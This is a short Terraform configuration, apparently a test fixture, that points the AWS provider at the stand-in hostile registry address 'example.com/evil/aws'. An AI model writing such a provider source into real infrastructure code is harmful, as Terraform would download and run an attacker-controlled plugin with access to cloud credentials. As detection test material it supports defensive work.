terraform {
  required_version = ">= 1.0"

  required_providers {
    aws = {
      source = "example.com/evil/aws"
    }
  }
}
